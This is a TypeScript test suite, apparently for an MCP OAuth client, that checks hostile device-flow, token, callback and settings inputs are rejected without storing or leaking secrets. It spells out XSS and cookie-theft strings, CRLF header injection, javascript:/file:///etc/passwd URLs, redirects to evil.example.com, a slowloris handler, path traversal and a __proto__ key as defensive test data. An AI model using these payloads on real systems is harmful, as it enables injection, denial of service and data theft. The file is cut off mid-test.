// The rest of the hostile-input corpus (hostileResponses.test.ts has resource and AS metadata, DCR, token
// responses and callbacks): device authorization responses, device token polling, 10 MB bodies, callbacks
// seen end to end with a log, settings entries and import bundles. Every row asserts an McpOAuthError with
// its exact code, that nothing was stored, and that no planted secret or raw control character reaches the
// message or the log.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { UnsecuredJWT } from 'jose';
import { importBundle } from '../../src/cli/commands';
import { parseEntry, parseServers } from '../../src/vscode/model/serverConfig';
import type { AuthEnvironment } from '../../src/oauth/session/environment';
import type { AuthServerMetadata } from '../../src/oauth/discovery/authServerMetadata';
import { fetchAuthServerMetadata } from '../../src/oauth/discovery/authServerMetadata';
import { redeemAuthorizationCallback, createAuthorizationRequest } from '../../src/oauth/grants/authorizationCode';
import {
  registerClient,
  resolveClient,
  type ClientRegistration,
  type ClientStore,
} from '../../src/oauth/client/registration';
import type { DeviceAuthorization } from '../../src/oauth/grants/deviceCode';
import { InvalidResponseError, McpOAuthError, OAuthResponseError, quote, type ErrorCode } from '../../src/oauth/errors';
import { defaultHttpPolicy, policyFetch, type HttpPolicy } from '../../src/oauth/http/policyFetch';
import { MemoryTokenStore } from '../../src/oauth/tokens/memoryTokenStore';
import { cryptoRandom } from '../../src/oauth/http/random';
import { refreshTokens } from '../../src/oauth/grants/refresh';
import { fetchResourceMetadata } from '../../src/oauth/discovery/resourceMetadata';
import { Scopes } from '../../src/oauth/tokens/scopes';
import { ServerAuth } from '../../src/oauth/session/serverAuth';
import { BUNDLE_TYPE, fromBundle } from '../../src/oauth/tokens/tokenBundle';
import { TokenManager } from '../../src/oauth/tokens/tokenManager';
import type { TokenSet } from '../../src/oauth/tokens/tokenSet';
import { CraftedCallbacks, deviceSignIn, RecordingLogger } from './support/coreHarness';
import { VirtualClock } from './support/headlessHarness';
import {
  json,
  raw,
  rejectsWithCode,
  startHostileServer,
  type Handler,
  type HostileServer,
} from './support/hostileServer';
import { sessionAuthServer } from '../../src/oauth/grants/grantContext';

const PLANTED = 'planted-secret-4d2a71';
const PLANTED_AT = `${PLANTED}-access-token`;
const PLANTED_RT = `${PLANTED}-refresh-token`;
const PLANTED_DEVICE = `${PLANTED}-device-code`;
const PLANTED_CODE = `${PLANTED}-code`;
const MB = 1024 * 1024;
const REDIRECT_URI = 'http://127.0.0.1:1/callback';
/** Markup, terminal escapes, header injection, C1 controls and a right-to-left override. */
const HOSTILE_TEXT =
  '<script>alert(document.cookie)</script>\u0000\u0007\u001b[31m\r\nSet-Cookie: x=1\u007f\u0085\u009b31m\u2028\u202egnp.exe';

/** Whether `text` holds a C0 or C1 control, DEL, a line or paragraph separator, or a bidi control. */
function hasControl(text: string): boolean {
  return [...text].some((ch) => {
    const c = ch.codePointAt(0) ?? 0;
    return (
      c < 0x20 ||
      (c >= 0x7f && c <= 0x9f) ||
      c === 0x2028 ||
      c === 0x2029 ||
      (c >= 0x202a && c <= 0x202e) ||
      (c >= 0x2066 && c <= 0x2069)
    );
  });
}

/**
 * A message or log line that may be shown: no secret, and no raw control character, so peer text (which
 * always carries some in this corpus) can only appear JSON-encoded, never verbatim.
 */
function assertPresentable(text: string, secrets: readonly string[] = [PLANTED]): void {
  assert.ok(!hasControl(text), `raw control characters: ${JSON.stringify(text)}`);
  assert.ok(!text.includes(HOSTILE_TEXT), `peer text shown verbatim: ${JSON.stringify(text)}`);
  for (const secret of secrets) assert.ok(!text.includes(secret), `leaks a secret: ${text}`);
}

/** Every line the core logged, and the line a host logs for the failure (`code: message`), are presentable. */
function assertLogPresentable(logger: RecordingLogger, error: McpOAuthError): void {
  logger.warn(`${error.code}: ${error.message}`);
  for (const line of logger.lines) assertPresentable(line);
}

/** Built once: the server runs in this process, and building it per request would stall the client's clock. */
const TEN_MB_BODY = Buffer.from(`{"pad":"${'x'.repeat(10 * MB)}"}`);

/** 10 MB announced by its Content-Length. */
const tenMbDeclared: Handler = (_req, res) => {
  res.writeHead(200, { 'content-type': 'application/json', 'content-length': String(TEN_MB_BODY.length) });
  res.end(TEN_MB_BODY);
};

const CHUNK_64KB = Buffer.alloc(64 * 1024, 'x');

/** 10 MB in 64 KB chunks, without a Content-Length, written as fast as the client reads. */
const tenMbChunked: Handler = (_req, res) => {
  res.writeHead(200, { 'content-type': 'application/json' });
  const chunk = CHUNK_64KB;
  let sent = 0;
  const push = (): void => {
    while (sent < 160 && !res.destroyed) {
      sent++;
      if (!res.write(chunk)) {
        res.once('drain', push);
        return;
      }
    }
    if (!res.destroyed) res.end();
  };
  push();
};

/** Slowloris: headers at once, then one byte every 50 ms. */
const dribble: Handler = (_req, res) => {
  res.writeHead(200, { 'content-type': 'application/json' });
  res.write('{');
  const timer = setInterval(() => res.write(' '), 50);
  res.on('close', () => clearInterval(timer));
};

const hangUp: Handler = (req) => {
  req.socket.destroy();
};

const html = (status: number): Handler =>
  raw(status, '<!doctype html><html><body><h1>Bad Gateway</h1><script>alert(1)</script></body></html>', {
    'content-type': 'text/html',
  });

class CountingClientStore implements ClientStore {
  readonly entries = new Map<string, ClientRegistration>();
  sets = 0;
  deletes = 0;
  async get(issuer: string): Promise<ClientRegistration | undefined> {
    return this.entries.get(issuer);
  }
  async set(issuer: string, registration: ClientRegistration): Promise<void> {
    this.sets++;
    this.entries.set(issuer, registration);
  }
  async delete(issuer: string): Promise<void> {
    this.deletes++;
    this.entries.delete(issuer);
  }
}

describe('hostile input corpus (device flow, 10 MB bodies, callbacks with a log, settings, bundles)', function () {
  let server: HostileServer;
  let elsewhere: HostileServer;
  let o: string;

  /** Slowloris is cut at `timeoutMs`; everything else answers (or is refused) well within it. */
  const httpPolicy = (): HttpPolicy => ({
    fetch: globalThis.fetch,
    timeoutMs: 1000,
    maxBodyBytes: MB,
    maxRedirects: 3,
  });

  before(async () => {
    server = await startHostileServer();
    elsewhere = await startHostileServer();
    o = server.origin;
  });
  after(async () => {
    await elsewhere.close();
    await server.close();
  });
  beforeEach(() => {
    server.reset();
    elsewhere.reset();
  });

  /** The clock the environment reads; each device sign-in replaces it. */
  let clock = new VirtualClock();
  const makeEnv = (http: HttpPolicy = httpPolicy()) => {
    const tokens = new MemoryTokenStore();
    const clients = new CountingClientStore();
    const logger = new RecordingLogger();
    const env: AuthEnvironment = {
      http,
      now: () => clock.now(),
      random: cryptoRandom,
      logger,
      tokens,
      clients,
      refreshBeforeMs: 60_000,
    };
    return { env, tokens, clients, logger };
  };

  /** The device flow's discovery documents, served by the hostile server, and a good device authorization answer. */
  const serveDeviceDiscovery = (): void => {
    server.route(
      '/.well-known/oauth-protected-resource/mcp',
      json(200, { resource: `${o}/mcp`, authorization_servers: [o] }),
    );
    server.route(
      '/.well-known/oauth-authorization-server',
      json(200, {
        issuer: o,
        authorization_endpoint: `${o}/authorize`,
        token_endpoint: `${o}/token`,
        device_authorization_endpoint: `${o}/device`,
        code_challenge_methods_supported: ['S256'],
        grant_types_supported: ['authorization_code', 'urn:ietf:params:oauth:grant-type:device_code'],
      }),
    );
  };
  const goodDevice = (patch: Record<string, unknown> = {}, drop: string[] = []): Record<string, unknown> => {
    const doc: Record<string, unknown> = {
      device_code: PLANTED_DEVICE,
      user_code: 'WDJB-MJHT',
      verification_uri: `${o}/activate`,
      verification_uri_complete: `${o}/activate?user_code=WDJB-MJHT`,
      expires_in: 600,
      interval: 5,
      ...patch,
    };
    for (const field of drop) delete doc[field];
    return doc;
  };

  /** Runs a device sign-in with a pre-registered public client (so the client store must stay empty). */
  const signInOnDevice = async (onSleep?: (n: number, c: VirtualClock) => void) => {
    const { env, tokens, clients, logger } = makeEnv();
    const auth = new ServerAuth(env, `${o}/mcp`, { clientId: 'client-1' });
    const shown: DeviceAuthorization[] = [];
    clock = new VirtualClock(onSleep);
    const outcome = deviceSignIn(auth, { clock, present: (device) => void shown.push(device) });
    return { outcome, tokens, clients, logger, shown, auth };
  };

  const assertNothingStored = async (tokens: MemoryTokenStore, clients: CountingClientStore): Promise<void> => {
    assert.deepEqual(await tokens.keys(), [], 'no tokens stored');
    assert.equal(clients.sets, 0, 'no client registration stored');
    assert.equal(clients.entries.size, 0);
  };

  describe('device authorization responses (RFC 8628 §3.2, through ServerAuth.signInWithDeviceCode)', () => {
    const cases: {
      name: string;
      code: ErrorCode;
      serve: () => Handler;
      type?: new (...args: never[]) => McpOAuthError;
    }[] = [
      {
        name: '"device_code" missing',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({}, ['device_code'])),
        type: InvalidResponseError,
      },
      {
        name: '"device_code" a number',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ device_code: 12345 })),
      },
      {
        name: '"device_code" empty',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ device_code: '' })),
      },
      {
        name: '"user_code" missing',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({}, ['user_code'])),
        type: InvalidResponseError,
      },
      {
        name: '"user_code" an object',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ user_code: { code: 'x' } })),
      },
      {
        name: '"verification_uri" missing',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({}, ['verification_uri', 'verification_uri_complete'])),
      },
      {
        name: '"verification_uri" a javascript: URL',
        code: 'insecure_url',
        serve: () => json(200, goodDevice({ verification_uri: 'javascript:alert(document.domain)' })),
        type: InvalidResponseError,
      },
      {
        name: '"verification_uri" http off loopback',
        code: 'insecure_url',
        serve: () => json(200, goodDevice({ verification_uri: 'http://as.example.com/activate' })),
      },
      {
        name: '"verification_uri" a data: URL',
        code: 'insecure_url',
        serve: () => json(200, goodDevice({ verification_uri: 'data:text/html,<script>alert(1)</script>' })),
      },
      {
        name: '"verification_uri" a file: URL',
        code: 'insecure_url',
        serve: () => json(200, goodDevice({ verification_uri: 'file:///etc/passwd' })),
      },
      {
        name: '"verification_uri" relative',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ verification_uri: '/activate' })),
      },
      {
        name: '"verification_uri" with credentials',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ verification_uri: 'https://admin:hunter2@as.example.com/activate' })),
      },
      {
        name: '"verification_uri_complete" a javascript: URL',
        code: 'insecure_url',
        serve: () => json(200, goodDevice({ verification_uri_complete: 'javascript:alert(1)' })),
      },
      {
        name: '"verification_uri_complete" http off loopback',
        code: 'insecure_url',
        serve: () =>
          json(200, goodDevice({ verification_uri_complete: 'http://evil.example.com/?user_code=WDJB-MJHT' })),
      },
      {
        name: '"expires_in" negative',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ expires_in: -600 })),
      },
      {
        name: '"expires_in" zero',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ expires_in: 0 })),
        type: InvalidResponseError,
      },
      {
        name: '"expires_in" missing',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({}, ['expires_in'])),
      },
      {
        name: '"expires_in" not a number',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ expires_in: 'soon' })),
      },
      { name: '"interval" zero', code: 'invalid_response', serve: () => json(200, goodDevice({ interval: 0 })) },
      {
        name: '"interval" negative',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ interval: -5 })),
      },
      {
        name: '"interval" an hour (out of range)',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ interval: 3600 })),
        type: InvalidResponseError,
      },
      {
        name: '"interval" a string',
        code: 'invalid_response',
        serve: () => json(200, goodDevice({ interval: '5' })),
      },
      { name: 'a non-JSON body', code: 'invalid_response', serve: () => html(200) },
      { name: 'a JSON array body', code: 'invalid_response', serve: () => json(200, [goodDevice()]) },
      {
        name: 'an OAuth error with a hostile error_description',
        code: 'authorization_failed',
        type: OAuthResponseError,
        serve: () => json(400, { error: 'invalid_client', error_description: HOSTILE_TEXT }),
      },
      {
        name: 'HTTP 500 with an HTML body',
        code: 'authorization_failed',
        serve: () => html(500),
        type: OAuthResponseError,
      },
      { name: 'a 10 MB body', code: 'response_too_large', serve: () => tenMbChunked },
      { name: 'slowloris', code: 'timeout', serve: () => dribble },
      { name: 'the socket closed', code: 'network_error', serve: () => hangUp },
      {
        name: 'a redirect to another origin',
        code: 'cross_origin_redirect',
        serve: () => raw(307, '', { location: `${elsewhere.origin}/device` }),
      },
    ];

    for (const c of cases) {
      it(`${c.name} → ${c.code}; nothing shown, nothing polled, nothing stored`, async () => {
        serveDeviceDiscovery();
        server.route('/device', c.serve());
        server.route('/token', json(200, { access_token: PLANTED_AT, token_type: 'Bearer', expires_in: 3600 }));
        const { outcome, tokens, clients, logger, shown } = await signInOnDevice();
        const error = await rejectsWithCode(outcome, c.code, [PLANTED]);
        if (c.type) assert.ok(error instanceof c.type, `expected ${c.type.name}, got ${error.name}`);
        assertPresentable(error.message);
        assertLogPresentable(logger, error);
        assert.equal(shown.length, 0, 'nothing was shown to the user');
        assert.equal(server.count('/device'), 1);
        assert.equal(server.count('/token'), 0, 'never polled');
        assert.equal(elsewhere.requests.length, 0);
        await assertNothingStored(tokens, clients);
      });
    }

    it('a well-formed answer is shown, polled and stored (the table above fails for its planted defect only)', async () => {
      serveDeviceDiscovery();
      server.route('/device', json(200, goodDevice()));
      server.route('/token', json(200, { access_token: PLANTED_AT, token_type: 'Bearer', expires_in: 3600 }));
      const { outcome, tokens, clients, shown, auth } = await signInOnDevice();
      const result = await outcome;
      assert.equal(result.accessToken, PLANTED_AT);
      assert.equal(shown.length, 1);
      assert.equal(shown[0]!.verificationUri, `${o}/activate`);
      assert.deepEqual(await tokens.get(auth.tokenKey), result);
      assert.equal(clients.sets, 0);
    });
  });

  describe('device token polling (RFC 8628 §3.5)', () => {
    const token = (patch: Record<string, unknown>, drop: string[] = []): Handler => {
      const doc: Record<string, unknown> = {
        access_token: PLANTED_AT,
        token_type: 'Bearer',
        expires_in: 3600,
        refresh_token: PLANTED_RT,
        ...patch,
      };
      for (const field of drop) delete doc[field];
      return json(200, doc);
    };
    const cases: {
      name: string;
      code: ErrorCode;
      serve: Handler;
      oauthError?: string;
      check?: (error: McpOAuthError) => void;
      polls?: number;
    }[] = [
      { name: '"token_type" missing', code: 'invalid_token_response', serve: token({}, ['token_type']) },
      { name: '"token_type" mac', code: 'invalid_token_response', serve: token({ token_type: 'mac' }) },
      { name: '"expires_in" negative', code: 'invalid_token_response', serve: token({ expires_in: -1 }) },
      { name: '"expires_in" zero', code: 'invalid_token_response', serve: token({ expires_in: 0 }) },
      { name: '"access_token" a number', code: 'invalid_token_response', serve: token({ access_token: 42 }) },
      { name: '"access_token" missing', code: 'invalid_token_response', serve: token({}, ['access_token']) },
      {
        name: '"access_token" with CR LF (header injection)',
        code: 'invalid_token_response',
        serve: token({ access_token: `${PLANTED_AT}\r\nX-Injected: 1` }),
      },
      {
        name: '"refresh_token" an array',
        code: 'invalid_token_response',
        serve: token({ refresh_token: [PLANTED_RT] }),
      },
      {
        name: 'a 200 with a non-JSON body',
        code: 'invalid_token_response',
        serve: raw(200, `access_token=${PLANTED_AT}`, { 'content-type': 'text/plain' }),
      },
      {
        name: 'a 200 with a JSON array',
        code: 'invalid_token_response',
        serve: json(200, [{ access_token: PLANTED_AT, token_type: 'Bearer' }]),
      },
      { name: 'expired_token', code: 'device_code_expired', serve: json(400, { error: 'expired_token' }) },
      {
        name: 'access_denied with a hostile error_description',
        code: 'authorization_denied',
        oauthError: 'access_denied',
        serve: json(400, { error: 'access_denied', error_description: HOSTILE_TEXT, error_uri: 'javascript:alert(1)' }),
        check: (error) => {
          assert.ok(!error.message.includes('alert'), error.message);
          assert.ok(!error.message.includes('Set-Cookie'), error.message);
        },
      },
      {
        name: 'invalid_grant',
        code: 'token_error',
        serve: json(400, { error: 'invalid_grant' }),
        oauthError: 'invalid_grant',
      },
      {
        name: 'an unknown error with a hostile code and description (JSON-encoded, bounded)',
        code: 'token_error',
        serve: json(400, { error: `\u202e<b>x</b>${'y'.repeat(500)}`, error_description: HOSTILE_TEXT }),
        check: (error) => {
          assert.ok(error.message.includes(quote(HOSTILE_TEXT)), `the description is JSON-encoded: ${error.message}`);
          assert.ok(error.message.length < 700, `bounded: ${error.message.length}`);
        },
      },
      {
        name: 'a 401 invalid_client with a challenge',
        code: 'token_error',
        serve: json(401, { error: 'invalid_client' }, { 'www-authenticate': 'Bearer error="invalid_client"' }),
        oauthError: 'invalid_client',
      },
      {
        name: 'HTTP 500 (reported as the AS being unavailable)',
        code: 'token_error',
        serve: html(500),
        check: (error) => {
          assert.ok(error instanceof OAuthResponseError);
          assert.equal(error.status, 500);
        },
      },
      { name: 'a 10 MB answer', code: 'response_too_large', serve: tenMbDeclared },
      { name: 'slowloris', code: 'timeout', serve: dribble },
      { name: 'the socket closed', code: 'network_error', serve: hangUp },
      {
        name: 'a redirect to another origin',
        code: 'cross_origin_redirect',
        serve: raw(307, '', { location: 'https://evil.example.com/token' }),
      },
      {
        name: 'authorization_pending until the code expires',
        code: 'device_code_expired',
        serve: json(400, { error: 'authorization_pending' }),
        polls: 5,
        check: () => assert.deepEqual(clock.sleeps, [5000, 5000, 5000, 5000, 5000, 5000]),
      },
      {
        name: 'slow_down until the code expires',
        code: 'device_code_expired',
        serve: json(400, { error: 'slow_down' }),
        polls: 2,
        check: () =>
          assert.deepEqual(clock.sleeps, [5000, 10_000, 15_000], 'the interval grows by 5 s after each slow_down'),
      },
    ];

    for (const c of cases) {
      it(`${c.name} → ${c.code}; nothing stored`, async () => {
        serveDeviceDiscovery();
        server.route('/device', json(200, goodDevice({ expires_in: 30 })));
        server.route('/token', c.serve);
        const { outcome, tokens, clients, logger, shown } = await signInOnDevice();
        const error = await rejectsWithCode(outcome, c.code, [PLANTED]);
        assertPresentable(error.message);
        assertLogPresentable(logger, error);
        if (c.oauthError) {
          assert.ok(error instanceof OAuthResponseError, `expected an OAuthResponseError, got ${error.name}`);
          assert.equal(error.error, c.oauthError);
        }
        c.check?.(error);
        assert.equal(shown.length, 1, 'the code was shown once');
        assert.equal(server.count('/token'), c.polls ?? 1);
        await assertNothingStored(tokens, clients);
      });
    }
  });

  describe('10 MB bodies (refused at the 1 MB limit, without reading them whole)', () => {
    const as = (): AuthServerMetadata => ({
      issuer: o,
      authorization_endpoint: `${o}/authorize`,
      token_endpoint: `${o}/token`,
      registration_endpoint: `${o}/register`,
      code_challenge_methods_supported: ['S256'],
    });
    const client = (): ClientRegistration => ({
      issuer: o,
      clientId: 'client-1',
      tokenEndpointAuthMethod: 'none',
      method: 'preregistered',
      redirectUris: [REDIRECT_URI],
      grantTypes: ['authorization_code', 'refresh_token'],
      registeredAt: 0,
    });
    const fetch = () => policyFetch(httpPolicy());
    const timed = async (run: () => Promise<unknown>, code: ErrorCode) => {
      const started = performance.now();
      await rejectsWithCode(run(), code, [PLANTED]);
      const ms = performance.now() - started;
      assert.ok(ms < 2000, `took ${ms.toFixed(0)} ms`);
    };

    for (const [label, serve] of [
      ['with a Content-Length', tenMbDeclared],
      ['chunked', tenMbChunked],
    ] as const) {
      it(`resource metadata, ${label} → response_too_large`, async () => {
        server.route('/prm', serve);
        await timed(() => fetchResourceMetadata(fetch(), `${o}/mcp`, [`${o}/prm`]), 'response_too_large');
      });
      it(`authorization server metadata, ${label} → response_too_large`, async () => {
        server.route('/asm', serve);
        await timed(() => fetchAuthServerMetadata(fetch(), [`${o}/asm`], o), 'response_too_large');
      });
      it(`a DCR answer, ${label} → response_too_large, and no client stored`, async () => {
        server.route('/register', serve);
        const store = new CountingClientStore();
        await timed(
          () =>
            resolveClient(
              { fetch: fetch(), as: as(), store: store, now: 0, hasSecret: false },
              {},
              { redirectUri: REDIRECT_URI, grantTypes: ['authorization_code'] },
            ),
          'response_too_large',
        );
        await timed(
          () => registerClient(fetch(), as(), { redirectUri: REDIRECT_URI, grantTypes: ['authorization_code'] }, 0),
          'response_too_large',
        );
        assert.equal(store.sets, 0);
      });
      it(`a token answer to the code exchange, ${label} → response_too_large`, async () => {
        server.route('/token', serve);
        const pending = await createAuthorizationRequest({
          as: as(),
          client: client(),
          redirectUri: REDIRECT_URI,
          scopes: Scopes.of(['mcp']),
          random: cryptoRandom,
        });
        const callback = new URL(`${REDIRECT_URI}?code=${PLANTED_CODE}&state=${pending.state}`);
        await timed(
          () =>
            redeemAuthorizationCallback(
              { fetch: fetch(), as: as(), client: client(), credentials: {}, now: Date.now },
              pending,
              callback,
            ),
          'response_too_large',
        );
      });
      it(`a token answer to a refresh, ${label} → response_too_large, the stored set untouched`, async () => {
        server.route('/token', serve);
        const store = new MemoryTokenStore();
        const before: TokenSet = {
          accessToken: 'old',
          tokenType: 'Bearer',
          expiresAt: Date.now() - 1000,
          refreshToken: PLANTED_RT,
          scopes: ['mcp'],
          issuer: o,
          clientId: 'client-1',
          tokenEndpoint: `${o}/token`,
          serverUrl: `${o}/mcp`,
          obtainedAt: 0,
        };
        await store.set('k', before);
        const manager = new TokenManager({
          key: 'k',
          serverUrl: `${o}/mcp`,
          store,
          now: Date.now,
          refreshBeforeMs: 0,
          refresh: (t) =>
            refreshTokens(
              { fetch: fetch(), as: sessionAuthServer(t), client: client(), credentials: {}, now: Date.now },
              t,
            ),
        });
        await timed(() => manager.getAccessToken(), 'response_too_large');
        assert.deepEqual(await store.get('k'), before);
      });
    }

    it('the production policy (defaultHttpPolicy) refuses a 10 MB metadata document too', async () => {
      server.route('/prm', tenMbChunked);
      await rejectsWithCode(
        fetchResourceMetadata(policyFetch({ ...defaultHttpPolicy(), timeoutMs: 2000 }), `${o}/mcp`, [`${o}/prm`]),
        'response_too_large',
      );
    });

    it('a 10 MB callback error_description → authorization_failed, with a bounded message and no token request', async () => {
      server.route('/token', json(200, { access_token: PLANTED_AT, token_type: 'Bearer' }));
      const pending = await createAuthorizationRequest({
        as: as(),
        client: client(),
        redirectUri: REDIRECT_URI,
        scopes: Scopes.of(['mcp']),
        random: cryptoRandom,
      });
      const callback = new URL(REDIRECT_URI);
      callback.searchParams.set('state', pending.state);
      callback.searchParams.set('error', `${HOSTILE_TEXT}${'e'.repeat(10 * MB)}`);
      callback.searchParams.set('error_description', 'd'.repeat(10 * MB));
      const error = await rejectsWithCode(
        redeemAuthorizationCallback(
          { fetch: fetch(), as: as(), client: client(), credentials: {}, now: Date.now },
          pending,
          callback,
        ),
        'authorization_failed',
      );
      assert.ok(error.message.length < 300, `message of ${error.message.length} characters`);
      assertPresentable(error.message);
      assert.equal(server.count('/token'), 0);
    });
  });

  describe('authorization callbacks end to end (ServerAuth.signIn): never shown verbatim, JSON-encoded in the log', () => {
    const serveDiscovery = (patch: Record<string, unknown> = {}): void => {
      server.route(
        '/.well-known/oauth-protected-resource/mcp',
        json(200, { resource: `${o}/mcp`, authorization_servers: [o] }),
      );
      server.route(
        '/.well-known/oauth-authorization-server',
        json(200, {
          issuer: o,
          authorization_endpoint: `${o}/authorize`,
          token_endpoint: `${o}/token`,
          code_challenge_methods_supported: ['S256'],
          ...patch,
        }),
      );
      server.route('/token', json(200, { access_token: PLANTED_AT, token_type: 'Bearer', expires_in: 3600 }));
    };
    const agent = (query: (state: string) => [string, string][]) => new CraftedCallbacks(query, REDIRECT_URI);
    const cases: {
      name: string;
      code: ErrorCode;
      as?: Record<string, unknown>;
      query: (state: string) => [string, string][];
      check?: (error: McpOAuthError) => void;
    }[] = [
      {
        name: 'error=access_denied with markup and controls in error_description',
        code: 'authorization_denied',
        query: (s) => [
          ['error', 'access_denied'],
          ['error_description', HOSTILE_TEXT],
          ['state', s],
        ],
        check: (error) =>
          assert.ok(!error.message.includes('Set-Cookie') && !error.message.includes('gnp.exe'), error.message),
      },
      {
        name: 'error=temporarily_unavailable with markup and controls in error_description',
        code: 'authorization_failed',
        query: (s) => [
          ['error', 'temporarily_unavailable'],
          ['error_description', HOSTILE_TEXT],
          ['state', s],
        ],
      },
      {
        name: 'a hostile error code',
        code: 'authorization_failed',
        query: (s) => [
          ['error', HOSTILE_TEXT],
          ['state', s],
        ],
        check: (error) => assert.ok(error.message.includes(quote(HOSTILE_TEXT, 64)), `JSON-encoded: ${error.message}`),
      },
      {
        name: 'a hostile iss',
        code: 'iss_mismatch',
        query: (s) => [
          ['code', PLANTED_CODE],
          ['state', s],
          ['iss', HOSTILE_TEXT],
        ],
        check: (error) => assert.ok(error.message.includes(quote(HOSTILE_TEXT)), `JSON-encoded: ${error.message}`),
      },
      {
        name: 'no iss from an AS that promises one',
        code: 'iss_mismatch',
        as: { authorization_response_iss_parameter_supported: true },
        query: (s) => [
          ['code', PLANTED_CODE],
          ['state', s],
        ],
      },
      {
        name: 'a hostile state',
        code: 'state_mismatch',
        query: () => [
          ['code', PLANTED_CODE],
          ['state', HOSTILE_TEXT],
        ],
      },
      {
        name: 'an empty code',
        code: 'invalid_response',
        query: (s) => [
          ['code', ''],
          ['state', s],
        ],
      },
    ];

    for (const c of cases) {
      it(`${c.name} → ${c.code}; no token request, nothing stored, nothing raw in the message or the log`, async () => {
        serveDiscovery(c.as);
        const { env, tokens, clients, logger } = makeEnv();
        const auth = new ServerAuth(env, `${o}/mcp`, { clientId: 'client-1' });
        const error = await rejectsWithCode(auth.signIn(agent(c.query)), c.code, [PLANTED]);
        c.check?.(error);
        // What the hosts do with a failure: the CLI prints `message [code]`, VS Code logs `code: message`.
        logger.warn(`[signIn] ${error.code}: ${error.message}`);
        assertPresentable(error.message);
        assertLogPresentable(logger, error);
        assert.equal(server.count('/token'), 0);
        await assertNothingStored(tokens, clients);
      });
    }
  });

  describe('settings entries (mcpOAuth.servers)', () => {
    const base = { name: 'A', url: 'https://mcp.example.com/mcp' };
    const cases: [string, unknown][] = [
      ['an entry that is null', null],
      ['an entry that is an array', [base]],
      ['an entry that is a number', 42],
      ['"name" a number', { ...base, name: 7 }],
      ['"name" an object', { ...base, name: { en: 'A' } }],
      ['"url" a number', { ...base, url: 443 }],
      ['"url" an array', { ...base, url: ['https://mcp.example.com/mcp'] }],
      ['"url" empty', { ...base, url: '' }],
      ['"url" http on a private address', { ...base, url: 'http://10.0.0.7/mcp' }],
      ['"url" http on a host that merely starts with localhost', { ...base, url: 'http://localhost.evil.example/mcp' }],
      ['"url" http on a host that merely starts with 127.0.0.1', { ...base, url: 'http://127.0.0.1.nip.io/mcp' }],
      ['"url" a javascript: URL that mentions https', { ...base, url: 'javascript:alert(1)//https://mcp.example.com' }],
      ['"url" a file: URL', { ...base, url: 'file:///etc/passwd' }],
      ['"url" a data: URL', { ...base, url: 'data:text/html,<script>alert(1)</script>' }],
      ['"url" protocol-relative', { ...base, url: '//mcp.example.com/mcp' }],
      ['"url" with credentials', { ...base, url: `https://admin:${PLANTED}@mcp.example.com/mcp` }],
      ['"url" with a fragment', { ...base, url: 'https://mcp.example.com/mcp#x' }],
      ['"id" with a path traversal', { ...base, id: '../../etc' }],
      ['"id" with a space', { ...base, id: 'my server' }],
      ['"transport" a number', { ...base, transport: 1 }],
      ['"args" a string', { ...base, transport: 'stdio', command: 'node', args: 'server.js --flag' }],
      ['"args" with a number', { ...base, transport: 'stdio', command: 'node', args: ['server.js', 3] }],
      ['"env" an array', { ...base, env: ['A=1'] }],
      ['"tokenEnv" with "="', { ...base, transport: 'stdio', command: 'x', tokenEnv: 'A=B' }],
      ['"auth" a string', { ...base, auth: 'oauth' }],
      ['"auth" an array', { ...base, auth: [{ flow: 'auto' }] }],
      ['"auth" null', { ...base, auth: null }],
      ['"auth.clientId" a number', { ...base, auth: { clientId: 123 } }],
      ['"auth.clientId" blank', { ...base, auth: { clientId: '   ' } }],
      ['"auth.scopes" a string', { ...base, auth: { scopes: 'mcp:read mcp:write' } }],
      ['"auth.scopes" with a control character', { ...base, auth: { scopes: ['mcp\u0007'] } }],
      ['"auth.scopes" with a quote', { ...base, auth: { scopes: ['mcp"read'] } }],
      ['"auth.resource" true', { ...base, auth: { resource: true } }],
      ['"auth.resource" a javascript: URL', { ...base, auth: { resource: 'javascript:alert(1)' } }],
      [
        '"auth.resourceMetadataUrl" http off loopback',
        { ...base, auth: { resourceMetadataUrl: 'http://mcp.example.com/.well-known/oauth-protected-resource' } },
      ],
      ['"auth.authorizationServer" relative', { ...base, auth: { authorizationServer: '/as' } }],
      [
        '"auth.authorizationServerMetadataUrl" a data: URL',
        { ...base, auth: { authorizationServerMetadataUrl: 'data:application/json,{}' } },
      ],
      [
        '"auth.clientMetadataUrl" http on loopback',
        { ...base, auth: { clientMetadataUrl: 'http://127.0.0.1/client.json' } },
      ],
      ['"auth.loopbackPort" zero', { ...base, auth: { loopbackPort: 0 } }],
      ['"auth.loopbackPort" a string', { ...base, auth: { loopbackPort: '33418' } }],
      ['"auth.loopbackPort" fractional', { ...base, auth: { loopbackPort: 8080.5 } }],
      ['"auth.flow" implicit', { ...base, auth: { flow: 'implicit' } }],
      ['"auth.redirect" a number', { ...base, auth: { redirect: 1 } }],
      ['a top-level key with markup and controls', { ...base, [HOSTILE_TEXT]: 1 }],
      ['an auth key with markup and controls', { ...base, auth: { [HOSTILE_TEXT]: 1 } }],
      [
        'a "__proto__" key',
        JSON.parse('{"name":"A","url":"https://mcp.example.com/mcp","__proto__":{"transport":"stdio"}}'),
      ],
      ['a client secret at the top level', { ...base, clientSecret: PLANTED }],
      ['a password under auth', { ...base, auth: { password: PLANTED } }],
      ['an access token under auth', { ...base, auth: { accessToken: PLANTED } }],
    ];

    for (const [name, entry] of cases) {
      it(`${name} → invalid_config; the entry is left out, the others kept`, () => {
        let caught: unknown;
        try {
          parseEntry(entry);
        } catch (error) {
          caught = error;
        }
        assert.ok(caught instanceof McpOAuthError, `expected an McpOAuthError, got ${String(caught)}`);
        assert.equal(caught.code, 'invalid_config', caught.message);
        assertPresentable(caught.message);

        const { servers, invalid } = parseServers([
